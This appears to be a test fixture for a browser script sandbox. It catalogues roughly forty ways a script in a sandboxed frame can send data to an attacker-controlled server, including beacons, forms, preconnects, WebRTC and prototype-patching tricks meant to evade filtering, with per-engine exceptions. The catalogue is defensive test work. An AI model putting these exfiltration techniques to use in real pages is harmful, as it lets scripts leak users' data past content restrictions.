// Ways to leak data. Each is a function that runs in the frame; `to` names an attacker's server that records everything.

/** Each must reach the attacker's server from a plain sandboxed frame, or it would prove nothing. `INERT` names the engines in which it
 * does not. */
export const leaks = {
  fetch: (to) => fetch(to.http, { mode: 'no-cors' }),
  'fetch with keepalive': (to) => fetch(to.http, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'data' }),
  XMLHttpRequest: (to) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open('GET', to.http);
      request.send();
    }),
  sendBeacon: (to) => navigator.sendBeacon(to.http, 'data'),
  WebSocket: (to) =>
    new Promise((resolve) => {
      new WebSocket(to.ws).onerror = resolve;
    }),
  EventSource: (to) =>
    new Promise((resolve) => {
      new EventSource(to.http).onerror = resolve;
    }),
  'an image': (to) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = to.http;
    }),
  'an image set': (to) => {
    const image = new Image();
    image.srcset = `${to.http} 2x`;
    image.sizes = '1px';
    document.body.append(image);
  },
  'a video': (to) => {
    const video = document.createElement('video');
    video.poster = to.http;
    video.src = to.http;
    document.body.append(video);
  },
  'an SVG image': (to) => {
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', to.http);
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    svg.append(image);
    document.body.append(svg);
  },
  'a background': (to) => {
    document.body.style.backgroundImage = `url(${to.http})`;
  },
  'an @import': (to) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${to.http});`;
    document.body.append(style);
  },
  'a font': (to) => new FontFace('leak', `url(${to.http})`).load().catch(() => {}),
  'a stylesheet': (to) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = to.http;
    document.head.append(link);
  },
  'a script element': (to) => {
    const script = document.createElement('script');
    script.src = to.http;
    document.body.append(script);
  },
  'import()': (to) => import(to.http).catch(() => {}),
  'a preload': (to) => {
    const link = document.createElement('link');
    link.rel = 'preload';
    link.as = 'fetch';
    link.href = to.http;
    document.head.append(link);
  },
  'a worker': (to) => {
    const text = `fetch(${JSON.stringify(to.http)}, { mode: 'no-cors' })`;
    new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  'a frame': (to) => {
    const frame = document.createElement('iframe');
    frame.src = to.http;
    document.body.append(frame);
  },
  'a written document': (to) => {
    document.body.innerHTML = `<link rel="preconnect" href="${to.http}"><img src="${to.http}">`;
  },
  'an object': (to) => {
    const object = document.createElement('object');
    object.data = to.http;
    document.body.append(object);
  },
  'location =': (to) => {
    location = to.http;
  },
  'location.replace': (to) => location.replace(to.http),
  'navigation.navigate': (to) => navigation.navigate(to.http).committed?.catch(() => {}),
  'a link that is clicked': (to) => {
    const link = document.createElement('a');
    link.href = to.http;
    document.body.append(link);
    link.click();
  },
  'a form by GET': (to) => {
    const form = document.createElement('form');
    form.action = to.http;
    document.body.append(form);
    form.requestSubmit();
  },
  'a form by POST that a script submits': (to) => {
    const form = document.createElement('form');
    Object.assign(form, { action: to.http, method: 'post' });
    form.append(Object.assign(document.createElement('input'), { name: 'secret', value: 'x' }));
    document.body.append(form);
    form.submit();
  },
  'a button with formaction whose submit event is stopped': (to) => {
    Event.prototype.preventDefault = () => {};
    const form = document.createElement('form');
    const button = document.createElement('button');
    button.setAttribute('formaction', to.http);
    form.append(button);
    form.addEventListener('submit', (event) => event.stopImmediatePropagation());
    document.body.append(form);
    button.click();
  },
  'a form of a dialog that becomes another': (to) => {
    const form = document.createElement('form');
    Object.assign(form, { action: to.http, method: 'dialog' });
    document.body.append(form);
    window.addEventListener('submit', () => (form.method = 'get'));
    form.requestSubmit();
  },
  'a form in a nested frame': (to) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<form action='${to.http}'><input name='secret' value='x'></form><script>document.forms[0].submit()</scr${'ipt>'}`;
    document.body.append(frame);
  },
  'a refresh': (to) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${to.http}`;
    document.head.append(meta);
  },
  'a preconnect': (to) => {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = to.http;
    document.head.append(link);
  },
  'a link of the document that becomes a preconnect': (to) => {
    const link = document.querySelector('link, meta');
    if (link.localName === 'meta') throw new Error('there is no link');
    link.rel = 'preconnect';
    link.href = to.http;
  },
  'a clone that becomes a preconnect': (to) => {
    const link = document.querySelector('link').cloneNode();
    link.rel = 'preconnect';
    link.href = to.http;
    document.head.append(link);
  },
  'a preconnect that is the root of a new document': (to) => {
    const made = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link', null);
    const link = document.adoptNode(made.documentElement);
    link.rel = 'preconnect';
    link.href = to.http;
    document.head.append(link);
  },
  'a preconnect after strings were patched': (to) => {
    String.prototype.toLowerCase = String.prototype.slice = () => 'p';
    String.prototype.lastIndexOf = () => -1;
    Set.prototype.has = () => false;
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = to.http;
    document.head.append(link);
  },
  'a control-click from a script on a link outside of the document': (to) => {
    const link = document.createElement('a');
    link.href = to.http;
    link.dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true, cancelable: true }));
  },
  WebRTC: async (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${to.port}` }] });
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
      setTimeout(resolve, 500);
    });
  },
};

/** Leaks that the sandbox alone prevents. */
export const hopeless = {
  'a fresh document': (to) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const image = new frame.contentWindow.Image();
    image.src = to.http;
  },
  'window.open': (to) => window.open(to.http),
  'a form to a new tab': (to) => {
    const form = document.createElement('form');
    Object.assign(form, { action: to.http, target: '_blank' });
    document.body.append(form);
    form.requestSubmit();
  },
  'a form to the top window': (to) => {
    const form = document.createElement('form');
    Object.assign(form, { action: to.http, target: '_top', method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'a link to a new tab': (to) => {
    const link = document.createElement('a');
    link.href = to.http;
    link.target = '_blank';
    document.body.append(link);
    link.click();
  },
  'the top window': (to) => {
    top.location = to.http;
  },
  'the parent window': (to) => {
    parent.location = to.http;
  },
  'a download': (to) => {
    const link = document.createElement('a');
    link.href = to.http;
    link.download = 'leak';
    document.body.append(link);
    link.click();
  },
  WebTransport: (to) => new WebTransport(`https://127.0.0.1:${to.port}/`).ready.catch(() => {}),
};

const PRECONNECTS = Object.keys(leaks).filter((name) => name.includes('preconnect'));
/** Leaks that reach no server from a plain sandboxed frame, by engine. */
export const INERT = {
  // Chromium under test never preconnects, even without `--disable-background-networking`.
  chromium: PRECONNECTS,
  // Firefox sends no STUN to loopback addresses, and a script's click opens no tab.
  firefox: ['WebRTC', 'a control-click from a script on a link outside of the document'],
  // WebKitGTK is built without WebRTC, and frames of opaque origins have no navigation.
  webkit: ['WebRTC', 'navigation.navigate'],
};
